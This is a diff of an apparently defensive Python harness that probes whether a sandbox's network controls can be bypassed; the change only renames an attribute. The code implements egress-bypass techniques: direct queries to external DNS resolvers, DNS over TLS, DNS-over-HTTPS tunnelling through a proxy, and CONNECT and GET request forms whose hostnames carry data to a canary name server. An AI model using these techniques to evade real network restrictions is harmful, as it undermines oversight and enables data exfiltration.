@@ -51,7 +51,7 @@ def over_tcp(server: str, port: int, data: bytes) -> str:
 @technique(PLACES)
 def resolver_of_our_own(attack: Attack) -> Iterator[Try]:
     """Query external name servers directly over UDP and TCP."""
-    for server in (attack.world.resolver, *RESOLVERS):
+    for server in (attack.knowledge.resolver, *RESOLVERS):
         data = query(f"direct.{attack.denied}")
         yield attack.tries(f"UDP {server}", lambda server=server, data=data: over_udp(server, 53, data))
         yield attack.tries(f"TCP {server}", lambda server=server, data=data: over_tcp(server, 53, data))
@@ -77,7 +77,7 @@ def resolver_that_is_configured(attack: Attack) -> Iterator[Try]:
 @technique()
 def resolvers_of_hosts(attack: Attack) -> Iterator[Try]:
     """Query name servers that the gateway or a host may run."""
-    for server in (attack.world.proxy[0], *attack.world.hosts):
+    for server in (attack.knowledge.proxy[0], *attack.knowledge.hosts):
         data = query(f"host.{attack.denied}")
         yield attack.tries(f"UDP {server}", lambda server=server, data=data: over_udp(server, 53, data))
 
@@ -85,7 +85,7 @@ def resolvers_of_hosts(attack: Attack) -> Iterator[Try]:
 @technique(PLACES)
 def dns_over_tls(attack: Attack) -> Iterator[Try]:
     """Query DNS over TLS and over QUIC at port 853."""
-    for server in (attack.world.canary, attack.world.resolver, *RESOLVERS):
+    for server in (attack.knowledge.canary, attack.knowledge.resolver, *RESOLVERS):
         yield attack.tries(f"TCP {server}", lambda server=server: over_tcp(server, 853, query(attack.denied)))
         yield attack.tries(f"UDP {server}", lambda server=server: over_udp(server, 853, query(attack.denied)))
 
@@ -93,22 +93,22 @@ def dns_over_tls(attack: Attack) -> Iterator[Try]:
 @technique(("sandbox", "build", "neighbour"))
 def dns_over_https(attack: Attack) -> Iterator[Try]:
     """Use public DNS-over-HTTPS resolvers through the proxy, by name and by address."""
-    for host in (*DOH, *RESOLVERS, attack.world.resolver):
+    for host in (*DOH, *RESOLVERS, attack.knowledge.resolver):
         yield attack.tries(f"CONNECT {host}:443", lambda host=host: _tunnel(attack, f"{host}:443"))
         target = f"http://{host}/dns-query?name={attack.denied}"
         request = f"GET {target} HTTP/1.1\r\nHost: {host}\r\naccept: application/dns-json\r\n\r\n".encode()
-        yield attack.tries(target, lambda request=request: reached(ask(attack.world.proxy, request)))
+        yield attack.tries(target, lambda request=request: reached(ask(attack.knowledge.proxy, request)))
 
 
 def _tunnel(attack: Attack, target: str) -> str:
-    with connected(attack.world.proxy) as sock:
+    with connected(attack.knowledge.proxy) as sock:
         return "the tunnel was opened" if connect(sock, target) == 200 else ""
 
 
 @technique(ENFORCED)
 def tunnel_through_lookups(attack: Attack) -> Iterator[Try]:
     """Request names that carry data, in every form that the proxy accepts; the proxy may resolve only allowed names."""
-    world = attack.world
+    knowledge = attack.knowledge
     forms = (
         "CONNECT {n}:443 HTTP/1.1\r\nHost: {n}:443\r\n\r\n",
         "CONNECT {n}:80 HTTP/1.1\r\nHost: {n}:80\r\n\r\n",
@@ -131,12 +131,12 @@ def tunnel_through_lookups(attack: Attack) -> Iterator[Try]:
         "GET http://{a}/ HTTP/1.1\r\nHost: {a}\r\nX-Forwarded-Host: {n}\r\nForwarded: host={n}\r\n\r\n",
     )
     for number, form in enumerate(forms):
-        request = form.format(n=f"form{number}.{attack.denied}", a=world.allowed or "www.example.org").encode()
+        request = form.format(n=f"form{number}.{attack.denied}", a=knowledge.allowed or "www.example.org").encode()
         yield attack.tries(form.split("\r")[0], lambda request=request: _asked(attack, request))
 
 
 def _asked(attack: Attack, request: bytes) -> str:
-    ask(attack.world.proxy, request)
+    ask(attack.knowledge.proxy, request)
     return ""  # The name server's log shows whether the proxy looked it up.
 
 
